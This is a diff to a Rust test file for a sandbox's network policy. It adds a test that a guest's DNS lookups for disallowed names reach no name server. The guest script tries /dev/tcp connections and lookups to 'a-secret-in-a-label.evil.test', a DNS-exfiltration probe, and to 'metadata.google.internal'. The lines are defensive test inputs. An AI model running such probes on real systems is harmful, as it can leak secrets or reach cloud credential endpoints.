@@ -1,16 +1,18 @@
 //! What a guest reaches on the network: what its policy names, and nothing else.
 
 use fs_err as fs;
+use std::collections::BTreeSet;
 use std::io::{Read, Write};
-use std::net::{Shutdown, TcpListener, TcpStream};
+use std::net::{Shutdown, TcpListener, TcpStream, UdpSocket};
 use std::process::Output;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
+use pyro_net::dns::{Kind, Query, Reply};
 use serde_json::Value;
 
-use crate::support::{Pyro, parse, peak_kib, text};
+use crate::support::{Pyro, is_root, parse, peak_kib, text};
 
 /// A server of this host that remembers who came.
 struct Server {
@@ -445,6 +447,44 @@ fn floods_of_a_guest_cost_little_and_leave_its_network_usable() {
     pyro.until("connections that have ended make room", |pyro| {
         says(pyro, &id, &format!("{PROBE}\nprobe up.test 7")) == "open up.test:7"
     });
+    pyro.ok(&["task", "delete", &id]);
+    pyro.assert_empty();
+}
+
+#[test]
+fn a_name_that_is_not_allowed_is_asked_of_nobody() {
+    if !is_root() {
+        println!("skipped: a name server of the test's own needs root");
+        return;
+    }
+    // An address of the loopback that no name server of this host has.
+    let server = UdpSocket::bind("127.77.0.1:53").expect("bound");
+    let asked = Arc::<Mutex<BTreeSet<String>>>::default();
+    let remembered = Arc::clone(&asked);
+    // It ends with the test.
+    drop(std::thread::spawn(move || {
+        let mut bytes = [0; 512];
+        while let Ok((length, peer)) = server.recv_from(&mut bytes) {
+            let Ok(query) = Query::read(&bytes[..length]) else { continue };
+            remembered.lock().expect("no panic").insert(query.name().to_owned());
+            let reply = if query.kind() == Kind::Address {
+                Reply::Address("203.0.113.7".parse().expect("an address"))
+            } else {
+                Reply::Empty
+            };
+            drop(server.send_to(&&query.reply(reply), peer));
+        }
+    }));
+    let resolv = tempfile::NamedTempFile::new().expect("a file");
+    fs::write(resolv.path(), "nameserver 127.77.0.1\noptions timeout:1 attempts:1\n").expect("written");
+    let bind = format!("mount --bind {} /etc/resolv.conf && exec \"$@\"", resolv.path().display());
+    let pyro = Pyro::behind(&["unshare", "-m", "sh", "-c", &bind, "sh"]);
+    let id = create(&pyro, &["--allow", "up.test:443"]);
+    let script = "for name in up.test x.up.test other.test a-secret-in-a-label.evil.test metadata.google.internal; do \
+                  getent hosts $name > /dev/null; (exec 3<>/dev/tcp/$name/443) 2> /dev/null; done; echo asked";
+    assert_eq!(says(&pyro, &id, script), "asked");
+    let asked: Vec<String> = asked.lock().expect("no panic").iter().cloned().collect();
+    assert_eq!(asked, ["up.test"]);
     pyro.ok(&["task", "delete", &id]);
     pyro.assert_empty();
 }
